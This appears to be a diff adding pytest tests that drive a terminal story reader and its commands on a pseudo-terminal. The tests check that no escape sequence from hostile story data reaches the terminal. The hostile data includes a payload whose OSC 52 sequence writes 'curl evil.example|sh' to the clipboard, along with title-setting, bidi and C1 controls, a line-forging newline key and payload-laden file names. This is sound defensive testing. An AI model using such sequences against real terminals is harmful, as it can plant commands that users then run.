@@ -1,0 +1,198 @@
+"""The bytes that reach a real terminal: nothing from a story may be obeyed there.
+
+These tests run the reader and every command on a pseudo-terminal over hostile data
+(a story whose every field carries escape sequences, hostile JSON keys, hostile file
+names) and read the raw bytes written, not the rendered screen. Any OSC, DCS, stray
+ESC, C1, NUL or bidirectional control that came from the data fails them.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from terminal import Pty, judge, run_on_pty
+
+HERE = Path(__file__).resolve().parent
+HOSTILE = HERE / "data" / "hostile.json"
+PAYLOAD = "\x1b]2;PWNED\x1b\\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\\u202e\x9b2J"
+"""Sets the window title, writes `curl evil.example|sh` to the clipboard, reverses text."""
+
+pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pty")
+
+
+def _env(tmp_path: Path) -> dict[str, str]:
+    env = {
+        key: value
+        for key, value in os.environ.items()
+        if key not in {"NO_COLOR", "TEXTUAL_THEME", "COLUMNS", "LINES"}
+    }
+    env.update(
+        TERM="xterm-256color",
+        HOME=str(tmp_path / "home"),
+        XDG_STATE_HOME=str(tmp_path / "state"),
+        XDG_DATA_HOME=str(tmp_path / "data"),
+        XDG_CONFIG_HOME=str(tmp_path / "config"),
+        XDG_CACHE_HOME=str(tmp_path / "cache"),
+        SMAREADER_LIBRARY=str(tmp_path / "library.sqlite"),
+    )
+    return env
+
+
+def _keys(text: str) -> list[bytes]:
+    return [char.encode() for char in text]
+
+
+ESCAPE = b"\x1b"
+F1 = b"\x1bOP"
+CTRL_P = b"\x10"
+CTRL_Q = b"\x11"
+DOWN = b"\x1b[B"
+
+
+def test_reader_every_row_of_every_pane_writes_nothing_from_the_story(tmp_path: Path) -> None:
+    """Highlight every row of every list, open details, help, the palette and copy."""
+    story = json.loads(HOSTILE.read_text(encoding="utf-8"))
+    rows = len(story["speakers"]) + len(story["quotes"]) + 4
+    terminal = Pty([sys.executable, "-m", "smareader", str(HOSTILE)], env=_env(tmp_path))
+    try:
+        assert terminal.wait_for(b"Timeline"), "the reader did not start"
+        # Timeline: every row, including the publication-day marker.
+        terminal.press([b"1", *_keys("j" * 6), *_keys("k" * 6)])
+        # Quotes: every speaker, then every quote of all speakers, each one copied.
+        terminal.press([b"2", *_keys("j" * rows), b"g", b"\t"])
+        for _ in range(len(story["quotes"]) + 1):
+            terminal.press([b"y", b"j"])
+        terminal.press([b"\r"], settle=0.3)  # jump to source, and back
+        terminal.press([ESCAPE], settle=0.3)
+        # Costs: every row of every list, and a jump to source.
+        terminal.press([b"3", *_keys("jjj"), b"\t", *_keys("jjj"), b"\t", *_keys("jjj")])
+        terminal.press([b"s"], settle=0.3)
+        terminal.press([ESCAPE], settle=0.3)
+        # Article: every anchored span in turn, then open one.
+        terminal.press([b"4", *_keys("n" * (len(story["quotes"]) + 6))])
+        terminal.press([b"\r"], settle=0.3)
+        # Help, the palette with every hit highlighted, and a search.
+        terminal.press([F1], settle=0.4)
+        terminal.press([ESCAPE], settle=0.3)
+        terminal.press([CTRL_P], settle=0.4)
+        terminal.press([DOWN] * (len(story["speakers"]) + 4))
+        terminal.press([ESCAPE], settle=0.3)
+        terminal.press([b"/", *_keys("PWNED")])
+        terminal.press([ESCAPE], settle=0.3)
+        terminal.press([CTRL_Q], settle=0.5)
+    finally:
+        code = terminal.close()
+    output = bytes(terminal.output)
+    verdict = judge(output, allow_clipboard=True)
+    assert verdict.problems == []
+    # The payloads were drawn, as visible characters, and the quotes were copied.
+    assert "␛]2;PWNED".encode() in output
+    assert len(verdict.clipboard) >= len(story["quotes"])
+    assert any("PWNED" in text for text in verdict.clipboard)
+    assert code == 0
+
+
+def _hostile_files(tmp_path: Path) -> dict[str, Path]:
+    """Story files that try to reach the terminal through every kind of message."""
+    folder = tmp_path / f"in{PAYLOAD}dir"
+    folder.mkdir()
+    story = json.loads(HOSTILE.read_text(encoding="utf-8"))
+    valid = folder / f"story{PAYLOAD}.json"
+    valid.write_text(json.dumps(story), encoding="utf-8")
+
+    keys: dict[str, Any] = json.loads(json.dumps(story))
+    keys["quotes"][0][PAYLOAD] = 1
+    keys["quotes"][1]["x\nfake.json: valid: all fine"] = 2
+    keys["story"]["title"] = PAYLOAD * 300  # too long, and quoted back cut
+    bad_keys = folder / "keys.json"
+    bad_keys.write_text(json.dumps(keys), encoding="utf-8")
+
+    duplicate = folder / "duplicate.json"
+    duplicate.write_text('{"schema_version": 1, "' + PAYLOAD + '": 1, "' + PAYLOAD + '": 2}')
+
+    draft: dict[str, Any] = json.loads(json.dumps(story))
+    for quote in draft["quotes"]:
+        del quote["start"], quote["end"]
+    draft["quotes"][0]["text"] = "not in the text " + PAYLOAD
+    missing = folder / "draft.json"
+    missing.write_text(json.dumps(draft), encoding="utf-8")
+
+    article = folder / f"article{PAYLOAD}.txt"
+    article.write_text(
+        f"“We will not pay {PAYLOAD},” said Jane Roe{PAYLOAD} on Monday.\n\n"
+        f"The {PAYLOAD} ministry said costs rose to $5 billion.\n",
+        encoding="utf-8",
+    )
+    return {
+        "valid": valid,
+        "keys": bad_keys,
+        "duplicate": duplicate,
+        "draft": missing,
+        "article": article,
+    }
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["validate", "{valid}", "{keys}", "{duplicate}", "{draft}"],
+        ["export", "{valid}", "--format", "json"],
+        ["export", "{valid}", "--format", "csv"],
+        ["export", "{valid}", "--format", "markdown"],
+        ["export", "{keys}"],
+        ["export", "{valid}", "-o", "{folder}"],
+        ["export", "{valid}", "-o", "{folder}/out{payload}.csv", "--format", "csv"],
+        ["anchor", "{draft}"],
+        ["anchor", "{keys}"],
+        ["anchor", "{valid}"],
+        ["extract", "{article}", "--published", "2020-01-08"],
+        ["extract", "{article}", "--published", "2020-01-08", "--url", "x{payload}"],
+        ["{keys}"],
+        ["add", "{valid}", "{keys}", "{duplicate}", "--library", "{folder}/lib.sqlite3"],
+    ],
+    ids=lambda argv: " ".join(argv)[:40],
+)
+def test_every_command_writes_nothing_from_the_data(tmp_path: Path, command: list[str]) -> None:
+    files = _hostile_files(tmp_path)
+    names = {name: str(path) for name, path in files.items()}
+    names.update(folder=str(files["valid"].parent), payload=PAYLOAD)
+    argv = [part.format(**names) for part in command]
+    code, output = run_on_pty([sys.executable, "-m", "smareader", *argv], env=_env(tmp_path))
+    verdict = judge(output)
+    assert verdict.problems == [], output[-2000:]
+    assert b"Traceback" not in output
+    assert code in {0, 1, 2}
+    lines = output.decode("utf-8", "replace").splitlines()
+    assert not any(line.startswith("fake.json: valid") for line in lines)
+
+
+def test_a_newline_in_a_key_cannot_forge_a_line(tmp_path: Path) -> None:
+    files = _hostile_files(tmp_path)
+    code, output = run_on_pty(
+        [sys.executable, "-m", "smareader", "validate", str(files["keys"])], env=_env(tmp_path)
+    )
+    assert code == 1
+    text = output.decode("utf-8")
+    assert "x\\nfake.json: valid: all fine" in text
+    assert all(line.startswith(str(files["keys"].parent)[:10]) for line in text.splitlines())
+
+
+def test_judge_catches_what_it_must() -> None:
+    """The judge itself: each kind of escape from the data is reported."""
+    for bad in [
+        b"\x1b]2;PWNED\x07",
+        b"\x1b]52;c;\x07\x1b]8;;https://x\x1b\\",
+        b"\x1bPq\x1b\\",
+        "\u202e".encode(),
+        "\x9b2J".encode(),
+        b"a\x00b",
+        b"\x1bc",
+    ]:
+        assert judge(b"\x1b[1mok\x1b[0m" + bad).problems, bad
+    assert not judge(b"\x1b[?1049h\x1b[38;2;1;2;3mtext\x1b]22;default\x07\r\n").problems
